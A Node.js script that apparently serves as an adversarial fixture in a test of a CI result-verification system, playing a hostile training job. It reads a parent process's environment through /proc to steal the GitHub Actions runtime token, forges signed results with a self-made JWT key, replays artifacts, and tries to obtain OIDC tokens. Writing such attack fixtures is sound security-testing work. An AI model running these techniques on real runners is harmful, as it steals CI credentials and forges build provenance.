// What a training command of bad will does; the scenario runs it in job `train`.
import { createHash, createSign, generateKeyPairSync } from 'node:crypto';
import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

const [deed] = process.argv.slice(2);

/** The environment of the nearest parent that holds the token. */
function stolenEnvironment() {
  for (let pid = process.ppid; pid > 1; ) {
    const environment = readFileSync(`/proc/${pid}/environ`, 'utf8');
    if (environment.includes('ACTIONS_RUNTIME_TOKEN='))
      return Object.fromEntries(
        environment.split('\0').map((line) => [line.slice(0, line.indexOf('=')), line.slice(line.indexOf('=') + 1)]),
      );
    pid = Number(/^PPid:\s+(\d+)/m.exec(readFileSync(`/proc/${pid}/status`, 'utf8'))?.[1]);
  }
  throw new Error('no parent holds a token');
}

const stolen = stolenEnvironment();
Object.assign(process.env, stolen);
const plan = JSON.parse(stolen.INPUT_PLAN);
const run = { id: Number(stolen.GITHUB_RUN_ID), attempt: Number(stolen.GITHUB_RUN_ATTEMPT) };
const { DefaultArtifactClient } = await import('<modules>/@actions/artifact/lib/artifact.js');
const client = new DefaultArtifactClient();
const folder = join(stolen.RUNNER_TEMP, 'forgery');
mkdirSync(folder, { recursive: true });

async function upload() {
  const files = readdirSync(folder).map((name) => join(folder, name));
  await client.uploadArtifact('siskin-result-late', files, folder);
  console.log('FORGED siskin-result-late');
}

async function askForToken() {
  const address = stolen.ACTIONS_ID_TOKEN_REQUEST_URL ?? 'no address';
  const { status } = await fetch(`${stolen.ACTIONS_RESULTS_URL}_services/oidc/token?api-version=2.0&audience=x`, {
    headers: { authorization: `Bearer ${stolen.ACTIONS_RUNTIME_TOKEN}` },
  });
  console.log(`TOKENS ${address}, and ${status} at the address that others have`);
}

function selfSigned(bytes) {
  const { repository } = plan;
  const workflow = `${repository}/.github/workflows/siskin.yml@refs/heads/main`;
  const now = Math.floor(Date.now() / 1000);
  const claims = {
    iss: `${new URL(stolen.ACTIONS_RESULTS_URL).origin}/_services/token`,
    aud: `siskin:${plan.claim}:${run.id}:${run.attempt}:sha256:${createHash('sha256').update(bytes).digest('hex')}`,
    repository,
    repository_id: stolen.GITHUB_REPOSITORY_ID,
    run_id: String(run.id),
    run_attempt: String(run.attempt),
    event_name: 'workflow_dispatch',
    workflow_ref: workflow,
    job_workflow_ref: workflow,
    iat: now,
    exp: now + 300,
  };
  const part = (value) => Buffer.from(JSON.stringify(value)).toString('base64url');
  const content = `${part({ alg: 'RS256', typ: 'JWT' })}.${part(claims)}`;
  const { privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
  return `${content}.${createSign('RSA-SHA256').update(content).sign(privateKey, 'base64url')}`;
}

if (deed === 'replay') {
  if (run.attempt > 1) {
    const { artifact } = await client.getArtifact('siskin-result-late');
    await client.downloadArtifact(artifact.id, { path: folder });
    await upload();
  }
} else {
  const { claim, head, base, repository } = plan;
  const result = JSON.parse(readFileSync('wonderful.json', 'utf8'));
  const bytes = JSON.stringify({ ...result, claim, head, base, repository, run });
  writeFileSync(join(folder, 'result.json'), bytes);
  if (deed === 'sign') writeFileSync(join(folder, 'result.jwt'), selfSigned(bytes));
  if (deed === 'borrow') writeFileSync(join(folder, 'result.jwt'), stolen.ACTIONS_RUNTIME_TOKEN);
  await askForToken();
  await upload();
}
